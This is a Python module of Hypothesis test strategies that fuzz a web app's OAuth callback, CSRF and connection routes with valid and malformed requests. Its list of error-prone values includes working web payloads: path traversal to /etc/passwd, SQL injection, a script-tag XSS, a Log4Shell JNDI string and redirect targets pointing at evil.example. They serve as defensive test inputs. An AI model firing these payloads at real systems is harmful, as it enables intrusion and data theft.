"""Hypothesis strategies for valid and invalid requests to web."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any, TypeVar

from hypothesis import strategies as st

T = TypeVar("T")

METHODS = ("GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "X" * 40)
HEADERS = (
    "Accept",
    "Accept-Encoding",
    "Content-Type",
    "Cookie",
    "Expect",
    "Host",
    "If-Modified-Since",
    "If-None-Match",
    "If-Range",
    "Origin",
    "Range",
    "Referer",
    "Sec-Fetch-Site",
    "Upgrade",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Prefix",
    "X-HTTP-Method-Override",
    "X-Original-URL",
)
#: Values that often cause errors in fields of requests.
FAMOUS = (
    "",
    "0",
    "-1",
    "62515",
    "9" * 19,
    "9" * 400,
    "1e9",
    "../../etc/passwd",
    "%00",
    "\x00",
    "%c0%ae",
    "\ud7ff\uffff",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "\r\nSet-Cookie: a=b",
    "//evil.example",
    "https://evil.example",
    "evil.example",
    "same-origin",
    "null",
    "chunked",
    "bytes=0-0,-1,999999999999-",
    "Sun, 06 Nov 9999 99:99:99 GMT",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/json",
    "access_denied",
    "active",
    "due",
    "q" * 5000,
)
PARAMETERS = (
    *(
        "state",
        "code",
        "error",
        "hub_id",
        "app",
        "moved",
        "status",
        "q",
        "sort",
        "after",
        "before",
        "notice",
        "csrf_token",
        "step",
        "returnUrl",
        "link",
        "signed_in",
        "grant",
    ),
    "x",
)
COOKIES = (
    "tk_browser",
    "tk_install_0123456789ab",
    "tk_grant_0123456789ab",
    "tk_used",
    "tk_restarts",
    "__Host-tk_browser",
    "session",
    "",
)


@dataclass(frozen=True, slots=True)
class Visit:
    method: str
    path: str
    query: str
    headers: list[tuple[str, str]]
    body: bytes
    signed_in: bool = field(default=False)


def latin(raw: bytes) -> str:
    """Bytes as WSGI passes them: decoded as Latin-1."""
    return raw.decode("latin-1")


def visits(paths: list[str], genuine: dict[str, str]) -> st.SearchStrategy[Visit]:
    """`genuine`: valid parameters and cookies by name, sent unchanged, corrupted or under another name."""
    values = sorted(genuine.values())
    text = st.one_of(
        st.sampled_from(FAMOUS),
        st.sampled_from(values),
        st.builds(_spoil, st.sampled_from(values), st.integers(0, 400), st.characters(max_codepoint=255)),
        st.text(max_size=40),
        st.binary(max_size=40).map(latin),
    ).map(_as_bytes)
    odd = st.one_of(
        st.builds(lambda path, more: f"{path}/{more}", st.sampled_from(paths), text),
        st.builds(lambda path, more: path.replace("62515", more), st.sampled_from(paths), text),
        text.map(lambda more: f"/{more}"),
    )
    path = _mostly(st.sampled_from(paths), odd, times=3)
    good = {name: st.just((name, value)) for name, value in genuine.items()}
    good["marketplace_state"] = st.just(("state", genuine["marketplace_state"]))
    return_url = st.sampled_from(("https://app.hubspot.com/x", "https://evil.example/")).map(
        lambda url: ("returnUrl", url)
    )
    form = st.one_of(
        st.lists(st.tuples(st.sampled_from(PARAMETERS), text), max_size=5).map(_form),
        st.tuples(good["state"], good["code"]).map(_form),
        st.tuples(good["csrf_token"]).map(_form),
        *(
            st.tuples(st.just(("step", step)), good["link"], good["code"], good["marketplace_state"], return_url).map(
                _form
            )
            for step in ("authorize", "finalize")
        ),
    )
    cookies = st.one_of(
        st.lists(st.tuples(st.sampled_from(COOKIES), text), max_size=4),
        st.tuples(*(pair for name, pair in good.items() if name.startswith("tk_"))),
    )
    cookie = cookies.map(lambda found: ("Cookie", "; ".join(f"{name}={value}" for name, value in found)))
    kind = st.just(("Content-Type", "application/x-www-form-urlencoded"))
    headers: Any = st.lists(st.tuples(st.sampled_from(HEADERS), text) | cookie | kind, max_size=5)
    body = st.one_of(st.just(b""), form.map(lambda told: told.encode("latin-1")), st.binary(max_size=200))
    method = st.sampled_from(("GET",) * 8 + ("POST",) * 8 + METHODS)
    odd_one = st.builds(Visit, method, path, form | text, headers, body, st.booleans())
    good_one = st.sampled_from(well_made(genuine))
    return _mostly(odd_one, good_one, times=9)


@st.composite
def _mostly(draw: st.DrawFn, usual: st.SearchStrategy[T], other: st.SearchStrategy[T], *, times: int) -> T:
    """`usual` as many times as often as `other`; only what is used is drawn, which takes most of the time of a test."""
    return draw(usual if draw(st.integers(0, times)) else other)


def well_made(genuine: dict[str, str]) -> list[Visit]:
    """Valid requests, so that the code behind the checks runs in every order."""
    cookies = "; ".join(f"{name}={value}" for name, value in genuine.items() if name.startswith("tk_"))
    headers = [("Cookie", cookies), ("Content-Type", "application/x-www-form-urlencoded")]
    form = f"csrf_token={genuine['csrf_token']}".encode()
    back = f"state={genuine['state']}&code={genuine['code']}"
    orders = ("/connections/62515/refresh", "/connections/62515/disconnect", "/operator/revocations/confirm")
    return [
        Visit("GET", "/oauth/callback", back, headers, b""),
        *(Visit("POST", order, "", headers, form, signed_in=True) for order in orders),
    ]


def _form(pairs: Iterable[tuple[str, str]]) -> str:
    return "&".join(f"{name}={value}" for name, value in pairs)


def _spoil(genuine: str, place: int, letter: str) -> str:
    place %= len(genuine) + 1
    return genuine[:place] + letter + genuine[place + 1 :]


def _as_bytes(text: str) -> str:
    return text.encode("utf-8", "surrogatepass").decode("latin-1")
